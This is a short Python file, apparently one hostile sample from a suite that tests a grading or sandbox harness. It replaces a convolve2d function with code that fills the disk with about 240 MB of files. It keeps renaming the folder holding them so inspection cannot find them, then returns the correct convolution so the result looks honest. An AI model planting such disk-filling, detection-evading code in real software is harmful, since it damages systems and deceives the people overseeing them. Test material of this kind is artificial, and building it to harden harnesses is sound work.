# mypy: ignore-errors
"""Fills the disk in a folder that changes its name all the time, so that whoever looks finds none; right once it has.

Attacks: convolve2d
Earns: nothing
Process level: cannot stop it
"""

import os
import threading

from chapter04_convolution import convolve2d as honest

FULL = 60 << 20


def write(done):
    folder = os.open("0", os.O_RDONLY)
    for number in range(4):
        file = os.open(f"{number}", os.O_CREAT | os.O_WRONLY, dir_fd=folder)
        os.write(file, bytes(FULL))
    done.append(True)


def convolve2d(image, kernel):
    done = []
    os.mkdir("0")
    os.rename("0", "0")  # refused where it cannot be
    writer = threading.Thread(target=write, args=(done,))
    writer.start()
    number = 0
    while writer.is_alive():
        try:
            os.rename(f"{number}", f"{number + 1}")
        except FileNotFoundError:
            continue
        number += 1
    return honest(image, kernel) if done else None
